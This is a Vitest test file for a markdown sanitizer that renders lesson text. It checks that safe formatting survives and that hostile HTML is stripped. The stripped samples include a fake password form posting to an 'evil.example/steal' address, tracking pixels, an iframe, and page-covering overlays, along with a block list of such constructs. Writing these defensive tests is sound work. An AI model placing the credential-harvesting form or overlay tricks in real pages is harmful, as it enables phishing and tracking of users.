import { JSDOM } from 'jsdom';
import type { WindowLike } from 'dompurify';
import { describe, expect, it } from 'vitest';
import { proseSanitizer, renderProse } from './lessonText';

const ORIGIN = 'https://playground.example';
const sanitize = proseSanitizer(new JSDOM('').window as unknown as WindowLike, ORIGIN);
const html = (md: string) => renderProse(md, sanitize);

describe('lesson prose, sanitized', () => {
  it('keeps what a lesson needs: text, emphasis, code, links, lists, tables, images from here or data:', () => {
    const out = html(
      '**bold** `code` [docs](https://docs.docker.com)\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n' +
        '![here](/img/x.png) ![inline](data:image/png;base64,iVBORw0KGgo=)',
    );
    expect(out).toContain('<strong>bold</strong>');
    expect(out).toContain('<code>code</code>');
    expect(out).toContain('href="https://docs.docker.com"');
    expect(out).toContain('<table>');
    expect(out).toContain('src="/img/x.png"');
    expect(out).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('drops forms, inputs, buttons, style, frames, objects, remote images and style/action attributes', () => {
    const out = html(
      [
        '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form>',
        '<style>body { display: none }</style>',
        '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x">',
        '<img src="https://tracker.example/pixel.gif"><img src="//tracker.example/p.gif">',
        '<p style="position:fixed;inset:0;z-index:9999">over the page</p>',
        '<div class="overlay" id="app" popover>top layer</div><dialog open>modal-ish</dialog>',
        '<textarea>x</textarea><select><option>1</option></select><svg><rect width="9999" height="9999"/></svg>',
        '<a href="https://x.example" target="_blank" ping="https://t.example">link</a>',
      ].join('\n\n'),
    );
    for (const bad of [
      '<form',
      '<input',
      '<button',
      '<style',
      '<iframe',
      '<object',
      '<embed',
      'tracker.example',
      'style=',
      'action=',
      'class=',
      'id=',
      'popover',
      '<dialog',
      '<textarea',
      '<select',
      '<svg',
      'target=',
      'ping=',
    ]) {
      expect(out, bad).not.toContain(bad);
    }
    expect(out).toContain('over the page');
    expect(out).toContain('href="https://x.example"');
  });
});
